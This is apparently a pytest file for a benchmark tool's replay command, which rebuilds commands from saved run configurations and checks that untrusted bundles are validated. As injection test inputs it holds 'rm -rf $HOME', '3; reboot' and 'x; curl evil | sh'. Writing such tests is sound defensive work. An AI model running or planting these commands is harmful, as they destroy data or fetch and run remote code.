"""Replays: the command that a run.json stands for, what has to be the same again, and a stranger's bundle."""

from __future__ import annotations

import json
import os
import shutil
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import click
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chaindp import __version__, cli
from chaindp.cli import replay as module
from chaindp.cli.bench import bench
from chaindp.cli.compare import compare
from chaindp.cli.run import run
from chaindp.errors import InputError
from chaindp.measure.verdict import Comparison, Verdict
from chaindp.pipeline.levels import parse_levels
from chaindp.pipeline.run import RunConfig
from chaindp.results.bundle import write_bundle
from chaindp.results.command import command_of, names_used
from chaindp.results.replay import Difference, environment_differences, result_differences
from chaindp.results.store import load
from chaindp.results.table import SampleTable
from plugin_site import chaindp

BENCH = {"kernels": ["keccak256"], "backends": ["cpu"], "sizes": [64], "repeat": 3, "threads": 1, "seed": 0}
COMPARE = {
    "rounds": 5,
    "seconds": 0.0,
    "seed": 0,
    "launches": 3,
    "kernels": ["keccak256"],
    "backends": ["cpu", "cpu:scalar"],
    "sizes": [64],
    "threads": 1,
}


def parsed(command: click.Command, words: list[str]) -> dict[str, Any]:
    """What the command line makes of the words after the command's name."""
    with command.make_context(command.name, words) as context:
        return dict(context.params)


TEXTS = st.text(st.characters(codec="ascii", exclude_categories=["C"]), min_size=1, max_size=12)


@settings(max_examples=60)
@given(
    st.builds(
        RunConfig,
        workload=TEXTS,
        levels=st.sets(st.integers(0, 5), min_size=1).map(lambda levels: tuple(sorted(levels))),
        txs=st.integers(1, 10_000_000),
        block_txs=st.integers(1, 10_000_000),
        accounts=st.integers(1, 10_000_000),
        repeat=st.integers(1, 10_000),
        seed=st.integers(0, 2**64 - 1),
        zipf=st.floats(0, 10),
        conflict=st.floats(0, 1),
        mode=st.sampled_from(["live", "model"]),
        backends=st.lists(TEXTS, max_size=3).map(tuple),
        ablate=st.lists(TEXTS, max_size=3).map(tuple),
        threads=st.integers(1, 4096),
        slot_s=st.floats(1e-9, 60),
        clock_mhz=st.none() | st.floats(1e-6, 1e6),
        instances=st.none() | st.integers(1, 1_000_000),
        link=st.sampled_from([None, "none", "pcie3x16", "2.5:8", "1:16:overlap"]),
    )
    | st.builds(RunConfig, mode=st.just("model"), cores=st.none() | st.integers(1, 4096), lock=st.booleans()),
    st.floats(0, 86_400),
)
def test_the_command_of_a_run_gives_its_configuration_again(config: RunConfig, seconds: float) -> None:
    options = asdict(config) | {"break_even_s": seconds}
    words = command_of({"kind": "pipeline", "config": json.loads(json.dumps(options))})
    assert words[:2] == ["chaindp", "run"]
    options = parsed(run, words[2:])
    assert options.pop("out") is None
    assert options.pop("as_json") is False
    assert options.pop("break_even_s") == seconds
    levels = tuple(parse_levels(options.pop("levels")))
    assert RunConfig(levels=levels, **options) == config


def test_the_command_of_a_bench_gives_its_plan_again() -> None:
    plan = BENCH | {"kernels": ["keccak256", "ntt-2"], "backends": ["cpu", "cpu:scalar"], "sizes": [64, 3]}
    plan |= {"clock_mhz": 125.0, "instances": None, "link": "1:16:overlap"}
    options = parsed(bench, command_of({"kind": "bench", "config": plan})[2:])
    assert {name: options[name] for name in ("repeat", "threads", "seed")} == {"repeat": 3, "threads": 1, "seed": 0}
    assert [list(options[name]) for name in ("kernels", "backends", "sizes")] == [
        plan[name] for name in ("kernels", "backends", "sizes")
    ]
    assert {name: options[name] for name in ("clock_mhz", "instances", "link")} == {
        name: plan[name] for name in ("clock_mhz", "instances", "link")
    }
    assert options.keys() - plan.keys() == {"out", "as_json"}


def test_the_command_of_a_comparison_gives_its_plan_again() -> None:
    options = parsed(compare, command_of({"kind": "compare", "config": COMPARE, "revisions": None})[2:])
    assert (options["backends"], options["sizes"], options["items"]) == ("cpu,cpu:scalar", (64,), ("keccak256",))
    assert {name: options[name] for name in ("rounds", "seconds", "launches", "threads", "seed")} == {
        name: COMPARE[name] for name in ("rounds", "seconds", "launches", "threads", "seed")
    }


def test_a_value_that_looks_like_an_option_stays_a_value(capsys: pytest.CaptureFixture[str]) -> None:
    words = command_of({"kind": "pipeline", "config": {"workload": "--out=/etc; rm -rf $HOME"}})
    assert words[2:] == ["--workload=--out=/etc; rm -rf $HOME"]
    assert cli.main(words[1:]) == 2
    assert "unknown workload '--out=/etc; rm -rf $HOME'" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("kind", "config", "message"),
    [
        ("bench", None, "holds no configuration"),
        ("bench", [], "holds no configuration"),
        ("shell", {}, "a run of kind 'shell' is not one that can be run again"),
        (None, {}, "a run of kind None is not one"),
        ("bench", {"out": "/etc"}, "has 'out', which this chaindp does not know"),
        ("bench", {"repeat": "3; reboot"}, "has '3; reboot' for repeat, which takes a int"),
        ("bench", {"repeat": True}, "has True for repeat"),
        ("bench", {"repeat": -1}, "has -1 for repeat"),
        ("bench", {"repeat": 10**30}, "for repeat"),
        ("bench", {"repeat": [3]}, r"has \[3\] for repeat"),
        ("bench", {"kernels": "keccak256"}, "has 'keccak256' for kernels"),
        ("bench", {"kernels": ["--help"]}, "has '--help' for kernels, which is not a name"),
        ("bench", {"kernels": ["Keccak 256"]}, "which is not a name"),
        ("bench", {"backends": [""]}, "has '' for backends"),
        ("bench", {"backends": ["a\0b"]}, r"has 'a\\x00b' for backends"),
        ("bench", {"backends": ["a\nb"]}, "for backends"),
        ("bench", {"backends": ["\ud800"]}, "for backends"),
        ("bench", {"backends": ["x" * 1000]}, "for backends"),
        ("bench", {"sizes": [1] * 2000}, "for sizes"),
        ("pipeline", {"zipf": float("nan")}, "has nan for zipf"),
        ("pipeline", {"zipf": float("inf")}, "has inf for zipf"),
        ("pipeline", {"network": {"validators": 100}}, "ran on another simulated network"),
        ("compare", COMPARE | {"launches": "5"}, "has '5' for launches"),
    ],
)
def test_what_is_not_a_command_is_refused(kind: Any, config: Any, message: str) -> None:
    with pytest.raises(InputError, match=message) as caught:
        command_of({"kind": kind, "config": config})
    assert str(caught.value).isprintable()


def test_names_that_a_run_needs() -> None:
    config = {"workload": "erc20", "backends": ["prove=fast:1", "fast", "cpu"]}
    assert names_used({"config": config}) == {"backend": ["fast", "cpu"], "kernel": [], "workload": ["erc20"]}
    assert names_used({"config": {"kernels": [1], "backends": "x"}}) == {"backend": [], "kernel": [], "workload": []}


def frame(kind: str = "bench", **fields: Any) -> Any:
    """A table of one kernel on one backend, with a run.json of this kind and ``fields``."""
    table = SampleTable("r")
    common = {"workload": "keccak256/64", "kernel": "keccak256", "backend_requested": "cpu", "repetition": [0, 1]}
    run_json = {"kind": kind, **{name: fields.pop(name) for name in list(fields) if name in ("levels", "failures")}}
    for metric, values in (("compute_time", [5.0, 6.0]), ("work", fields.pop("work", [64.0, 64.0]))):
        table.extend(2, **(common | fields), metric=metric, value=values)
    made = table.frame()
    made.attrs["run"] = run_json
    return made


LEVELS = {"DP0": {"state_root": {"0": "aa", "1": "bb"}, "gas_used": {"0": 5}, "mechanisms": []}}


@pytest.mark.parametrize(
    ("then", "now", "lines"),
    [
        (frame(), frame(), []),
        (frame(), frame(work=[64.0, 65.0]), ["keccak256/64 on cpu: the input has another amount of work than then"]),
        (frame("compare"), frame("compare", work=[64.0, 65.0]), []),
        (
            frame(),
            frame(status="failed", reason="one digest differs", output_matched=False),
            ["keccak256/64 on cpu: ok then, failed now (one digest differs)"],
        ),
        (frame(), frame(output_matched=False), ["keccak256/64 on cpu: ok then, failed now"]),
        (
            frame(status="failed", reason="bad"),
            frame(status="failed", reason="bad"),
            ["keccak256/64 on cpu: failed then, failed now (bad)"],
        ),
        (
            frame(),
            frame(status="skipped", reason="no such \x1b kernel"),
            ["keccak256/64 on cpu: ok then, skipped now (no such \N{REPLACEMENT CHARACTER} kernel)"],
        ),
        (
            frame(workload="ntt/8"),
            frame(),
            ["ntt/8 on cpu: measured then, not now", "keccak256/64 on cpu: not measured"],
        ),
        (frame("pipeline", levels=LEVELS), frame("pipeline", levels=LEVELS), []),
        (
            frame("pipeline", levels=LEVELS),
            frame("pipeline", levels={"DP0": {**LEVELS["DP0"], "state_root": {"0": "aa", "1": "cc", "2": "dd"}}}),
            ["DP0: other state root in repetition 1, 2: bb then, cc now"],
        ),
        (
            frame("pipeline", levels=LEVELS),
            frame("pipeline", levels={"DP0": {"state_root": LEVELS["DP0"]["state_root"]}}),
            ["DP0: other gas used in repetition 0: 5 then, None now"],
        ),
        (frame("pipeline", levels=LEVELS), frame("pipeline", levels={}), ["DP0: there then, not now"]),
        (frame("pipeline", levels={}), frame("pipeline", levels=LEVELS), ["DP0: not there then, now"]),
        (frame(failures=["a"]), frame(failures=["a"]), ["failed now, as it did then: a"]),
        (frame(failures=["a"]), frame(failures=["b"]), ["failed now: b", "failed then, and does not now: a"]),
    ],
)
def test_what_has_to_be_the_same(then: Any, now: Any, lines: list[str]) -> None:
    found = result_differences(then, now)
    assert len(found) == len(lines), found
    for line, expected in zip(found, lines, strict=True):
        assert line.startswith(expected)


@pytest.mark.parametrize("key", "state_root receipts_root block_hash gas_used transactions refused".split())
def test_every_result_of_a_level_counts(key: str) -> None:
    then, now = (frame("pipeline", levels={"DP3": {key: {"0": value}}}) for value in ("aa", "bb"))
    assert result_differences(then, now) == [f"DP3: other {key.replace('_', ' ')} in repetition 0: aa then, bb now"]


def test_another_digest_or_configuration_is_another_input() -> None:
    then, now = frame("pipeline"), frame("pipeline")
    then.attrs["run"] |= {"workload": {"digest": "aa"}, "config": {"txs": 5, "old": 1}}
    now.attrs["run"] |= {"workload": {"digest": "bb"}, "config": {"txs": 6, "young": 2}}
    first, second, third = result_differences(then, now)
    assert (first, second) == ("config txs: 5 then, 6 now", "config old: 1 then, None now")
    assert third.startswith("workload digest: aa then, bb now: the input is another one")
    differs = environment_differences(then.attrs["run"], now.attrs["run"])
    assert differs == [Difference("config.young", None, "2")]


def test_what_differs_between_machines() -> None:
    then = {
        "chaindp": "0.1.0",
        "time": "yesterday",
        "packages": {"numpy": "1"},
        "distributions": ["numpy==1", "gone==2"],
        "plugins": [{"name": "fast", "distribution": "fast-chaindp", "version": "1", "status": "ok"}],
        "variables": {},
        "cpu": {"model": "A", "flags": ["avx", "sse"], "mhz": 1, "turbo": None, "long": "x" * 999},
        "memory": {"total_bytes": 5, "available_bytes": 1},
        "git": None,
        "aslr": {"randomize_va_space": 2},
        "advice": ["load"],
    }
    now = {
        "chaindp": "0.2.0",
        "time": "today",
        "packages": {"numpy": "2"},
        "distributions": ["numpy==2", "come==3"],
        "plugins": [{"name": "fast", "distribution": "fast-chaindp", "version": "2", "status": "ok"}],
        "variables": {"OMP_NUM_THREADS": "1"},
        "cpu": {"model": "B\x1b[2J", "flags": ["avx", "avx2"], "mhz": 2, "mhz_max": 3, "turbo": False, "long": "y"},
        "memory": {"total_bytes": 6, "available_bytes": 2},
        "git": {"commit": "abc"},
        "aslr": {"randomize_va_space": 2},
        "advice": [],
        "numa": {"nodes": {}},
    }
    found = environment_differences({"environment": then}, {"environment": now})
    assert found == [
        Difference("chaindp", "0.1.0", "0.2.0"),
        Difference("distributions.numpy", "1", "2"),
        Difference("distributions.come", None, "3"),
        Difference("distributions.gone", "2", None),
        Difference("plugins.fast", "fast-chaindp 1 ok", "fast-chaindp 2 ok"),
        Difference("variables.OMP_NUM_THREADS", None, "1"),
        Difference("cpu.model", "A", "B\N{REPLACEMENT CHARACTER}[2J"),
        Difference("cpu.flags", "had sse", "has avx2"),
        Difference("cpu.turbo", None, "no"),
        Difference("cpu.long", "x" * 196 + " ...", "y"),
        Difference("memory.total_bytes", "5", "6"),
        Difference("git", None, "{'commit': 'abc'}"),
        Difference("advice", "load", "none"),
    ]
    assert environment_differences({"environment": now}, {"environment": now}) == []
    for odd in (None, [], "x", {"plugins": 5, "distributions": [5], "cpu": []}):
        environment_differences({"environment": odd, "levels": odd}, {"environment": now, "levels": {"DP0": {}}})


@pytest.fixture(scope="module")
def bench_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("bench")
    arguments = "bench keccak256 --size 64 --repeat 3 --threads 1 --json --out".split()
    return Path(json.loads(chaindp(*arguments, str(out)).stdout)["path"])


def resealed(folder: Path, where: Path, **changes: Any) -> str:
    """A bundle of the run with another run.json."""
    copy = where / "altered"
    shutil.copytree(folder, copy)
    document = json.loads((copy / "run.json").read_text())
    for key, value in changes.items():
        document[key] = {**document[key], **value} if isinstance(value, dict) else value
    (copy / "run.json").write_text(json.dumps(document))
    return str(write_bundle(copy, where / "altered.zip")[0])


def test_a_bench_is_run_again(
    bench_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    # Where bundles are downloaded to, other files are, too: nothing there may be imported.
    for name in ("click", "numpy", "chaindp"):
        Path(f"{name}.py").write_text("raise SystemExit('imported from the current folder')")
    path, bundle = write_bundle(bench_run, "x.zip")
    before = path.read_bytes()
    assert cli.main(["replay", "x.zip", "--out", "again", "--seal", bundle.seal, "--json"]) == 0
    captured = capsys.readouterr()
    document = json.loads(captured.out)
    assert captured.err.startswith("running chaindp bench --backend=cpu --size=64 --repeat=3 --threads=1 --seed=0")
    assert (document["holds"], document["failures"]) == (True, [])
    assert (document["seal"], document["replayed"]) == (bundle.seal, bench_run.name)
    assert document["run_id"] != bench_run.name
    assert document["path"] == f"again/{document['run_id']}"
    row = next(row for row in document["rows"] if row["metric"] == "ns_per_unit")
    assert (row["what"], row["a"], row["b"]) == ("keccak256/64", "then cpu", "now cpu")
    assert (row["samples_a"], row["samples_b"], row["verdict"]) == (3, 3, "insufficient data")
    assert row["ratio"] > 0
    assert "cpu.model" not in [one["what"] for one in document["differs"]]
    again = load(document["path"])
    assert again.attrs["run"]["config"] == load(bench_run).attrs["run"]["config"]
    assert path.read_bytes() == before
    assert sorted(os.listdir("again")) == [document["run_id"]]


@pytest.mark.slow
def test_a_pipeline_that_led_elsewhere_does_not_hold(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    small = "run --workload transfers --levels 0,4 --txs 200 --accounts 200 --repeat 1 --json".split()
    folder = Path(json.loads(chaindp(*small, cwd=tmp_path).stdout)["path"])
    run_json = json.loads((folder / "run.json").read_text())
    root = run_json["levels"]["DP4"]["state_root"]["0"]
    run_json["levels"]["DP4"]["state_root"]["0"] = "00" * 32
    bundle = resealed(folder, tmp_path, levels=run_json["levels"], environment={"chaindp": "0.0.1"})
    assert cli.main(["replay", bundle]) == 1
    text = " ".join(capsys.readouterr().out.split())
    # One line for what was altered: everything else came out as it had.
    assert text.count("NOT THE SAME") == 1
    assert f"NOT THE SAME: DP4: other state root in repetition 0: {'00' * 32} then, {root} now" in text
    assert "1 result is not the same" in text
    assert "tps transfers DP4" in text
    assert f"chaindp 0.0.1 {__version__}" in text
    assert len(list(Path("results/runs").iterdir())) == 2


def test_the_noise_floor_is_beside_every_verdict(capsys: pytest.CaptureFixture[str]) -> None:
    figures: dict[str, Any] = {
        "metric": "tps",
        "a": "then",
        "b": "now",
        "unit": "tx/s",
        "time_domain": "wall",
        "samples_a": 9,
        "samples_b": 9,
    }
    rows = [
        Comparison(**figures, what="w DP0", verdict=Verdict.FASTER, ratio=2.0, low=1.9, high=2.1, noise_floor=0.0312),
        Comparison(**figures, what="w DP1", verdict=None),
    ]
    document = {"failures": [], "holds": True, "replayed": "a", "run_id": "b", "path": "c"}
    module._print(document, [replace(row, floor_from="draws") for row in rows], [])
    text = capsys.readouterr().out
    assert "noise floor: draws" in text
    judged, refused = (line for line in text.splitlines() if "w DP" in line)
    assert "3.1%" in judged
    assert "%" not in refused


def test_rows_of_two_backends_and_two_clocks_can_be_told_apart(capsys: pytest.CaptureFixture[str]) -> None:
    figures: dict[str, Any] = {"metric": "ns_per_unit", "unit": "ns/node", "samples_a": 9, "samples_b": 9}
    figures |= {"verdict": Verdict.FASTER, "ratio": 2.0, "low": 1.9, "high": 2.1, "noise_floor": 0.01}
    cases = (("k/64", "cpu", "wall"), ("k/64", "opencl", "wall"), ("k/64 (device time)", "opencl", "device"))
    rows = [
        Comparison(**figures, what=what, a=f"then {name}", b=f"now {name}", time_domain=domain, reason=name)
        for what, name, domain in cases
    ]
    rows.append(Comparison(**figures, what="k/1", a="then cpu", b="now gpu", time_domain="wall", reason="other"))
    document = {"failures": [], "holds": True, "replayed": "a", "run_id": "b", "path": "c"}
    module._print(document, rows, [])
    text = " ".join(capsys.readouterr().out.split())
    for of in ("k/64 on cpu", "k/64 on opencl", "k/64 (device time) on opencl", "k/1 on cpu and gpu"):
        assert f"ns_per_unit {of} " in text
    assert "k/64 on cpu: cpu " in text
    assert "k/64 on opencl, k/64 (device time) on opencl: opencl " in text


def test_a_plugin_that_is_missing_is_named(
    bench_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    row = {"name": "fast", "distribution": "fast-chaindp", "version": "1.2", "backends": ["fast"]}
    hostile = {**row, "distribution": "x; curl evil | sh", "backends": ["odd"]}
    for names, reason in (
        (
            ["cpu", "fast:1"],
            "the run used backend fast, which is not here: it was of fast-chaindp 1.2; install that first",
        ),
        (["odd"], "the run used backend odd, which is not here: the bundle does not say which distribution has it"),
    ):
        bundle = resealed(bench_run, tmp_path, config={"backends": names}, environment={"plugins": [row, hostile, 5]})
        assert cli.main(["replay", bundle, "--json"]) == 2
        captured = capsys.readouterr()
        assert captured.err.count("\n") == 1
        assert json.loads(captured.out)["error"].startswith(reason)
        assert not Path("results").exists()
        shutil.rmtree("altered")
        os.unlink("altered.zip")


def test_a_folder_that_cannot_be_written_is_noticed_before_measuring(
    bench_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("results").write_text("a file")
    write_bundle(bench_run, "x.zip")
    assert cli.main(["replay", "x.zip"]) == 2
    captured = capsys.readouterr()
    assert captured.err.startswith("chaindp: error: cannot write to results/runs: ")
    assert "running" not in captured.err


def test_a_command_that_is_refused_here_is_one_line(
    bench_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    bundle = resealed(bench_run, tmp_path, config={"repeat": 0})
    assert cli.main(["replay", bundle, "--json"]) == 2
    captured = capsys.readouterr()
    assert [line for line in captured.err.splitlines() if "error" in line] == [captured.err.splitlines()[-1]]
    error = json.loads(captured.out)["error"]
    assert error.startswith("the bundle's command does not run here: invalid value for '--repeat'")
    assert not Path("results").exists()


def test_what_cannot_be_replayed(
    bench_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    bundle = resealed(bench_run, tmp_path, kind="compare", revisions=["a", "b"])
    for arguments, status, reason in (
        ([bundle], 2, "cannot be replayed: it compares git revisions"),
        ([bundle, "--seal", "0" * 64], 1, "it is not the bundle that was asked for"),
        (["nowhere.zip"], 2, "nowhere.zip is not a bundle: it does not exist"),
        ([str(bench_run)], 2, "is not a file"),
    ):
        assert cli.main(["replay", *arguments]) == status
        captured = capsys.readouterr()
        assert captured.err.count("\n") == 1
        assert reason in captured.err
        assert captured.out == ""


def test_a_table_that_no_run_writes_is_refused_before_anything_runs(
    bench_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    copy = tmp_path / "odd"
    shutil.copytree(bench_run, copy)
    table = load(copy)
    table[table["metric"] != "compute_time"].to_parquet(copy / "samples.parquet")
    write_bundle(copy, "x.zip")
    assert cli.main(["replay", "x.zip"]) == 2
    assert "its table is not one that a run writes" in capsys.readouterr().err
    assert not Path("results").exists()


@pytest.mark.slow
def test_a_comparison_is_run_again(tmp_path: Path) -> None:
    small = "compare --backends cpu,cpu:scalar keccak256 --size 64 --rounds 5 --seconds 0 --threads 1 --json".split()
    done = chaindp(*small, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert chaindp("bundle", json.loads(done.stdout)["path"], "--out", "x.zip", cwd=tmp_path).returncode == 0
    done = chaindp("replay", "x.zip", "--json", cwd=tmp_path)
    document = json.loads(done.stdout)
    assert done.returncode == 0, document
    assert {(row["a"], row["b"]) for row in document["rows"]} == {
        ("then cpu", "now cpu"),
        ("then cpu:scalar", "now cpu:scalar"),
    }
    assert load(tmp_path / document["path"]).attrs["run"]["kind"] == "compare"
